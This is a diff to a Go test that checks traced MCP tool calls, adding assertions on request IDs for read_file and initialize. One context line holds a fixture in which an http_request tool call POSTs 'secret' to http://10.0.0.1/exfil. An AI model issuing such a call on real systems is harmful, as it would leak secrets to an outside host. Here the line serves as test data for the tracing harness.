@@ -241,6 +241,8 @@ func TestTraceloopPythonCapture(t *testing.T) {
 	}
 	rf := get(t, byMethodTool, "tools/call read_file")
 	eq(t, "read_file.arguments", rf.Arguments, `{"path": "/etc/hosts"}`)
+	eq(t, "read_file.request_id from the ResponseStreamWriter child", rf.RequestID, "2")
+	eq(t, "initialize.request_id", get(t, byMethodTool, "initialize ").RequestID, "0")
 	eq(t, "read_file.result", rf.Result, "FAKE CONTENTS of /etc/hosts: hello world")
 	eq(t, "add.result", get(t, byMethodTool, "tools/call add").Result, "5")
 	http := get(t, byMethodTool, `tools/call http_request tool_error {"method": "POST", "url": "http://10.0.0.1/exfil", "body": "secret"}`)
